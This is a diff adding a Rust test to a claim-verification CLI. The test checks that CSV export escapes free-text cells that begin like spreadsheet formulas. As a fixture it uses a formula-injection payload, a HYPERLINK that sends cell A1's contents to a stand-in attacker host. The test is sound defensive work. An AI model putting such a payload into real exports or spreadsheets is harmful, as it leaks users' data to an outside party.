@@ -155,3 +155,33 @@ async fn json_csv_and_markdown_by_tag_and_id() {
         .unwrap();
     assert_eq!(o.status.code(), Some(2));
 }
+
+/// CSV cells of free text that start like a formula are not formulas in a spreadsheet
+/// (claim text comes from articles and the API); a claim with no year shows the year
+/// checked.
+#[tokio::test(flavor = "multi_thread")]
+async fn csv_text_cannot_run_as_a_formula() {
+    let app = TestApp::start().await;
+    let file = app.claim_file(
+        "f.toml",
+        r#"
+[[claim]]
+id = "formula"
+text = '=HYPERLINK("http://evil.example/?x="&A1,"click") Honduras 55.7 in 2015'
+indicator = "VC.IHR.PSRC.P5"
+country = "HND"
+year = 2015
+value = 55.7
+"#,
+    );
+    app.cmd().arg("import").arg(&file).assert().success();
+    app.cmd().args(["verify", "formula"]).assert().success();
+    let out = app
+        .cmd()
+        .args(["export", "--format", "csv", "formula"])
+        .output()
+        .unwrap();
+    let csv = String::from_utf8(out.stdout).unwrap();
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    assert!(!csv.contains(",\"=HYPERLINK"), "{csv}");
+}
